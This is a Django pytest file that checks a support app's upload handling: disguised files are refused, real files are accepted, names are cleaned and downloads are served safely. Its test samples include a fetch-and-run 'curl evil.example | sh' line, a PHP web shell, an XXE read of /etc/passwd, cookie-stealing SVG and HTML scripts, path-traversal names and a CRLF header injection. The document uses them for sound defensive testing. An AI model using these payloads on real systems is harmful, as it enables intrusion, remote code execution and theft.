"""Uploads are judged by their bytes, stored under a safe name and served only as downloads.

A corpus of disguised files (web pages, SVG, XML, programs and scripts under image, PDF, Office and text
names) goes through the interfaces people use: the REST API and the portal's submit form. Real files of
every allowed type, built here byte by byte, still go through. Names that climb out of folders or hide
their extension are cleaned; mail keeps a message whose attachment is refused.
"""

from __future__ import annotations

import email
import email.policy
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.message import Message as MimeMessage

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from kefu.api.tests.openapi import ApiClient
from kefu.chat import services as chat_services
from kefu.chat.models import ChatMessage
from kefu.core.errors import DomainError
from kefu.core.filetypes import safe_filename
from kefu.inbox import services as inbox_services
from kefu.inbox.models import InboundEmail
from kefu.testing import factories
from kefu.testing.proof import figure
from kefu.tickets import services
from kefu.tickets.models import Attachment, Message, Ticket

pytestmark = pytest.mark.django_db

SUBMIT = reverse("web:portal_submit")
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# ---------------------------------------------------------------------------------------------- real files


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def real_png(width: int = 2, height: int = 2) -> bytes:
    """A complete PNG (signature, IHDR, IDAT, IEND with their CRCs): RGB pixels, one filter byte a row."""
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(rows))
            + _png_chunk(b"IEND", b""))


def real_gif() -> bytes:
    """A 1×1 GIF89a: screen descriptor, a two-colour table, one image whose LZW codes are clear, 0, end
    (3 bits each, packed from the low bit: 0b101_000_100 = 0x0144)."""
    return (b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
            + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00" + b"\x3b")


def jpeg_frame() -> bytes:
    """The markers a JPEG starts and ends with: SOI, a JFIF APP0 segment, EOI."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


def webp_container() -> bytes:
    """A RIFF/WEBP container holding a VP8L chunk header for a 1×1 image."""
    chunk = b"VP8L" + struct.pack("<I", 5) + b"\x2f\x00\x00\x00\x00" + b"\x00"
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def real_pdf(text: str = "Receipt 2026-118") -> bytes:
    """A one-page PDF with a correct cross-reference table (offsets computed here)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


_CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
       'content-types"><Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/{part}" ContentType="{type}"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
         'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
         'officeDocument/2006/relationships/officeDocument" Target="{part}"/></Relationships>')


def _ooxml(part: str, main_type: str, xml: str) -> bytes:
    """An Office Open XML package: the content types, the package relationship and the main part."""
    return _zip({"[Content_Types].xml": _CT.format(part=part, type=main_type), "_rels/.rels": _RELS.format(part=part),
                 part: f'<?xml version="1.0" encoding="UTF-8"?>{xml}'})


def real_docx(text: str = "订单 1001 的问题") -> bytes:
    return _ooxml("word/document.xml",
                  "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                  f'<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>')


def real_xlsx() -> bytes:
    return _ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                  '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>'
                  '<sheet name="Sheet1" sheetId="1"/></sheets></workbook>')


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(alert)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="9"/></svg>'


@dataclass(frozen=True)
class Sample:
    name: str
    content: bytes
    client_type: str = "application/octet-stream"  # what a browser sends for a type it does not know
    stored_type: str = ""  # for good files: the type kefu stores and serves


GOOD = (
    Sample("shot.png", real_png(), "image/png", "image/png"),
    Sample("photo.jpg", real_png(), "image/jpeg", "image/png"),  # a PNG saved as .jpg: still an image
    Sample("scan.jpeg", jpeg_frame(), "image/jpeg", "image/jpeg"),
    Sample("anim.gif", real_gif(), "image/gif", "image/gif"),
    Sample("pic.webp", webp_container(), "image/webp", "image/webp"),
    Sample("receipt.pdf", real_pdf(), "application/pdf", "application/pdf"),
    Sample("report.docx", real_docx(), DOCX, DOCX),
    Sample("sheet.xlsx", real_xlsx(), XLSX, XLSX),
    Sample("logs.zip", _zip({"app.log": "E42 at 20:00\n"}), "application/zip", "application/zip"),
    Sample("日志.txt", "错误 42：支付失败\n<2026-12-04> 重试\n".encode(), "text/plain", "text/plain"),
    Sample("订单.csv", "订单号,金额\n1001,99.00\n".encode("gb18030"), "text/csv", "text/csv"),  # Excel in China
    Sample("export.csv", "\ufeffname,total\nWang,3\n".encode(), "text/csv", "text/csv"),  # Excel's UTF-8 BOM
    Sample("notes.txt", "\ufeff记事本 Unicode".encode("utf-16-le"), "text/plain", "text/plain"),
    Sample("screenshot", real_png(), "", "image/png"),  # no extension, no type: the bytes say PNG
)

DISGUISED = (
    Sample("invoice.png", HTML, "image/png"),
    Sample("invoice.pdf", HTML, "application/pdf"),
    Sample("readme.txt", HTML, "text/plain"),
    Sample("table.csv", b"<html><body><table><tr><td>1</td></tr></table>", "text/csv"),
    Sample("logo.png", SVG, "image/png"),
    Sample("logo.txt", SVG, "text/plain"),
    Sample("data.txt", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
           "text/plain"),
    Sample("page.txt", b"  \n<!-- saved page -->\n<p>hi</p>", "text/plain"),
    Sample("tool.png", ELF, "image/png"),
    Sample("tool.pdf", ELF, "application/pdf"),
    Sample("tool.txt", ELF, "text/plain"),
    Sample("setup.pdf", PE, "application/pdf"),
    Sample("setup.docx", PE, DOCX),
    Sample("setup.jpg", PE, "image/jpeg"),
    Sample("mac.gif", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "image/gif"),
    Sample("install.txt", b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "text/plain"),
    Sample("run.csv", b"#!/usr/bin/env python3\nimport os\n", "text/csv"),
    Sample("shell.png", b"<?php system($_GET['c']); ?>", "image/png"),
    Sample("app.pdf", b"alert(document.domain)//", "application/pdf"),
    Sample("bundle.docx", _zip({"evil.exe": "MZ"}), DOCX),  # a ZIP, but no Word document in it
    Sample("budget.xlsx", real_docx(), XLSX),  # a Word document named as a spreadsheet
    Sample("dump.txt", bytes(range(256)) * 4, "text/plain"),
    Sample("blob", HTML, "image/png"),  # no extension: the claimed type is checked the same way
)


# ---------------------------------------------------------------------------------------------- helpers


def _api_client(user: object) -> ApiClient:
    client = ApiClient()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def _portal_client() -> Client:
    client = Client()
    client.force_login(factories.customer(name="Zhao Lei").user)
    return client


def _portal_form(sample: Sample) -> dict[str, object]:
    return {"subject": "Payment failed", "description": "My card was charged but the order shows unpaid.",
            "category": "", "what": "", "when": "", "where": "", "who": "", "how": "", "expected": "",
            "attachments": [SimpleUploadedFile(sample.name, sample.content, content_type=sample.client_type)]}


def _upload_by_api(client: ApiClient, ticket: Ticket, sample: Sample) -> tuple[int, dict[str, object]]:
    response = client.post(f"/api/v1/tickets/{ticket.pk}/attachments", {
        "kind": "reply", "body": sample.name,
        "files": [SimpleUploadedFile(sample.name, sample.content, content_type=sample.client_type)]})
    return response.status_code, response.json()


def _filename_of(content_disposition: str) -> str:
    """The file name a mail or web client reads from a Content-Disposition value (RFC 2231/5987 too)."""
    header = MimeMessage()
    header["Content-Disposition"] = content_disposition
    return str(header.get_filename())


# ---------------------------------------------------------------------------------------------- by content


def test_disguised_files_are_refused_and_real_files_accepted_through_the_api() -> None:
    agent = factories.staff()
    ticket = factories.ticket(auto_assign=False)
    client = _api_client(agent)
    refused, accepted = [], []
    for sample in DISGUISED:
        status, body = _upload_by_api(client, ticket, sample)
        error = body["error"]
        assert (status, error["code"]) == (400, "attachment_content"), sample.name  # type: ignore[index]
        assert f"The content of “{sample.name}” is not a file of type" in error["message"]  # type: ignore[index]
        refused.append(sample.name)
    for sample in GOOD:
        status, body = _upload_by_api(client, ticket, sample)
        assert status == 201, (sample.name, body)
        stored = body["attachments"][0]  # type: ignore[index]
        assert stored["filename"] == sample.name
        download = client.get(stored["url"])
        assert download.status_code == 200 and download.getvalue() == sample.content
        assert download["Content-Type"] == sample.stored_type, sample.name
        assert download["Content-Disposition"].startswith("attachment;")
        assert _filename_of(download["Content-Disposition"]) == sample.name
        assert download["X-Content-Type-Options"] == "nosniff"
        accepted.append(sample.name)
    assert Attachment.objects.filter(message__ticket=ticket).count() == len(GOOD)
    figure(f"uploads by content (API): {len(refused)}/{len(DISGUISED)} disguised files refused "
           f"(attachment_content), {len(accepted)}/{len(GOOD)} real files of 10 types accepted and "
           f"downloaded byte-identical as attachments with nosniff")


def test_disguised_files_are_refused_and_real_files_accepted_on_the_portal_form() -> None:
    client = _portal_client()
    refused = 0
    for sample in DISGUISED:
        response = client.post(SUBMIT, _portal_form(sample))
        assert response.status_code == 400, sample.name
        page = response.content.decode()
        assert f"The content of “{sample.name}” is not a file of type" in page, sample.name
        assert "My card was charged but the order shows unpaid." in page  # what was typed is kept
        refused += 1
    assert Ticket.objects.count() == 0
    for sample in GOOD:
        response = client.post(SUBMIT, _portal_form(sample))
        assert response.status_code == 302, sample.name
    stored = sorted(Attachment.objects.values_list("filename", "content_type"))
    assert stored == sorted((s.name, s.stored_type) for s in GOOD)
    assert Ticket.objects.count() == len(GOOD)
    figure(f"uploads by content (portal form): {refused}/{len(DISGUISED)} disguised files refused with the "
           f"form kept, {len(GOOD)}/{len(GOOD)} real files accepted")


def test_a_chat_file_is_stored_with_the_type_its_bytes_show_not_the_one_the_client_claims() -> None:
    chat = chat_services.start_chat(chat_services.PreChat(name="Liu Yang", phone="+8613900000000"))
    with pytest.raises(DomainError) as refused:
        chat_services.post_message(chat, "", side="customer", upload=services.Upload("cat.png", HTML, "image/png"))
    assert refused.value.code == "attachment_content"
    message, _created = chat_services.post_message(chat, "", side="customer", upload=services.Upload(
        "..\\..\\cat\u202egnp.png", real_png(), "text/html"))
    stored = ChatMessage.objects.get(pk=message.pk)
    assert (stored.filename, stored.content_type) == ("catgnp.png", "image/png")


def test_a_refused_mail_attachment_loses_neither_the_message_nor_the_good_attachment() -> None:
    msg = EmailMessage()
    msg["From"] = "Wang Fang <wangfang@example.com>"
    msg["To"] = "support@kefu.localhost"
    msg["Subject"] = "发票有问题"
    msg["Message-ID"] = "<attachments-1@example.com>"
    msg.set_content("发票金额不对，见附件。")
    msg.add_attachment(real_pdf(), maintype="application", subtype="pdf", filename="发票.pdf")
    msg.add_attachment(HTML, maintype="application", subtype="pdf", filename="invoice.pdf")
    msg.add_attachment(ELF, maintype="image", subtype="png", filename="../../photo\u202egnp.png")
    raw = msg.as_bytes()

    received = inbox_services.receive_email(raw, source=InboundEmail.Source.HTTP)
    outcome = inbox_services.process_email(received.inbound.pk, verify_dkim=inbox_services.no_dkim)

    inbound = InboundEmail.objects.get(pk=received.inbound.pk)
    assert outcome == inbox_services.Outcome.NEW_TICKET and inbound.state == InboundEmail.State.PROCESSED
    assert inbound.ticket_id is not None and inbound.ticket_message_id is not None
    message = Message.objects.get(pk=inbound.ticket_message_id, ticket_id=inbound.ticket_id)
    assert [a.filename for a in message.attachments.all()] == ["发票.pdf"]
    assert message.body_text.startswith("发票金额不对，见附件。")
    assert "Not attached here (kept in the original message):" in message.body_text
    assert "The content of “invoice.pdf” is not a file of type “application/pdf”" in message.body_text
    assert "“photognp.png”" in message.body_text  # named as stored would name it: no path, no U+202E
    assert bytes(inbound.raw) == raw, "the refused files stay in the original, byte for byte"
    kept = email.message_from_bytes(bytes(inbound.raw), policy=email.policy.default)
    assert sum(1 for _ in kept.iter_attachments()) == 3  # type: ignore[attr-defined]


# ---------------------------------------------------------------------------------------------- names


NAMES = (
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
    ("C:\\Users\\wang\\Desktop\\报告.txt", "报告.txt"),
    ("/etc/shadow.txt", "shadow.txt"),
    ("photo\u202egnp.txt", "photognp.txt"),  # shown as "phototxt.png" while it holds U+202E
    ("\u2067invoice\u2069\u200b.txt", "invoice.txt"),
    (".htaccess.txt", "htaccess.txt"),
    ("...hidden.txt", "hidden.txt"),
    ("tab\there.txt", "tab here.txt"),
    ("trailing.txt. . ", "trailing.txt"),
    ("\u202e\u200d", "file"),
    ("..", "file"),
)


def test_stored_names_keep_no_path_no_hidden_characters_and_no_leading_dot() -> None:
    ticket = factories.ticket()
    message = services.add_customer_message(
        ticket, "files", actor=ticket.customer.user,
        uploads=[services.Upload(name, b"hello", "text/plain") for name, _ in NAMES])
    assert [a.filename for a in message.attachments.order_by("pk")] == [clean for _, clean in NAMES]
    long_name = "报" * 300 + ".pdf"
    kept = services.add_customer_message(ticket, "long", actor=ticket.customer.user,
                                         uploads=[services.Upload(long_name, real_pdf(), "")])
    stored = kept.attachments.get().filename
    assert len(stored) == 255 and stored.endswith("报.pdf")
    figure(f"upload names: {len(NAMES) + 1}/{len(NAMES) + 1} hostile names stored cleaned (path traversal with / "
           "and \\, bidi overrides, zero-width and control characters, leading dots, empty → “file”, "
           "300 characters cut to 255 keeping “.pdf”)")


def _multipart(field: str, filename: bytes, content: bytes, content_type: str) -> tuple[bytes, str]:
    """A multipart body written by hand: the test client would take the base name itself."""
    boundary = "kefu-boundary-7MA4YWxkTrZu0gW"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"".encode()
            + filename + f"\"\r\nContent-Type: {content_type}\r\n\r\n".encode() + content
            + f"\r\n--{boundary}--\r\n".encode())
    return body, f"multipart/form-data; boundary={boundary}"


def test_names_sent_by_a_hostile_client_are_cleaned_and_downloads_name_them_safely() -> None:
    ticket = factories.ticket()
    client = _api_client(ticket.customer.user)
    cases = [
        (b"../../../etc/passwd.txt", "passwd.txt"),
        (b"..\\..\\boot.ini.txt", "boot.ini.txt"),
        ("\u202etxt.exe.txt".encode(), "txt.exe.txt"),
        ("季度报告 final.txt".encode(), "季度报告 final.txt"),
    ]
    for raw_name, expected in cases:
        body, content_type = _multipart("files", raw_name, b"hello", "text/plain")
        response = client.generic("POST", f"/api/v1/tickets/{ticket.pk}/attachments", body,
                                  content_type=content_type)
        assert response.status_code == 201, response.content
        attachment = response.json()["attachments"][0]
        assert attachment["filename"] == expected
        download = client.get(attachment["url"])
        assert download.getvalue() == b"hello"  # read to the end: the test client then closes the file
        disposition = download["Content-Disposition"]
        assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
        assert _filename_of(disposition) == expected
    # Quotes and a second parameter in the name stay inside the one filename parameter.
    tricky = 'say "hi"; filename=evil.html.txt'
    message = services.add_customer_message(ticket, "x", actor=ticket.customer.user,
                                            uploads=[services.Upload(tricky, b"hello", "text/plain")])
    download = client.get(f"/api/v1/attachments/{message.attachments.get().pk}")
    assert download.getvalue() == b"hello"
    assert _filename_of(download["Content-Disposition"]) == tricky


def test_an_active_type_an_admin_allowed_is_still_never_served_inline(settings: object) -> None:
    kefu = settings.KEFU  # type: ignore[attr-defined]
    settings.KEFU = {**kefu, "ATTACHMENT_TYPES": [*kefu["ATTACHMENT_TYPES"], "image/svg+xml", "text/html"]}  # type: ignore[attr-defined]
    ticket = factories.ticket()
    client = _api_client(ticket.customer.user)
    for name, content in (("diagram.svg", SVG), ("page.html", HTML)):
        status, body = _upload_by_api(client, ticket, Sample(name, content))
        assert status == 201, body
        download = client.get(body["attachments"][0]["url"])  # type: ignore[index]
        assert download.getvalue() == content
        assert download["Content-Type"] == "application/octet-stream"
        assert download["Content-Disposition"] == f'attachment; filename="{name}"'
        assert download["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in download["Content-Security-Policy"]


def test_an_old_row_with_a_dangerous_type_and_name_is_served_as_a_plain_download() -> None:
    """Rows stored before these checks (or edited in the admin) are made safe where they are served."""
    ticket = factories.ticket()
    message = services.add_customer_message(ticket, "x", actor=ticket.customer.user,
                                            uploads=[services.Upload("x.txt", b"hello", "text/plain")])
    Attachment.objects.filter(message=message).update(filename="../x\r\nSet-Cookie: a=b\u202e.html",
                                                      content_type="text/html; charset=utf-8")
    attachment = message.attachments.get()
    response = _api_client(ticket.customer.user).get(f"/api/v1/attachments/{attachment.pk}")
    assert response.getvalue() == b"hello"
    assert response["Content-Type"] == "application/octet-stream"
    assert "Set-Cookie" not in response.cookies and not response.has_header("Set-Cookie")
    assert _filename_of(response["Content-Disposition"]) == "x Set-Cookie: a=b.html"


def test_safe_filename_is_idempotent_and_never_empty() -> None:
    for raw, clean in NAMES:
        assert safe_filename(clean) == clean, raw
        assert safe_filename(raw)
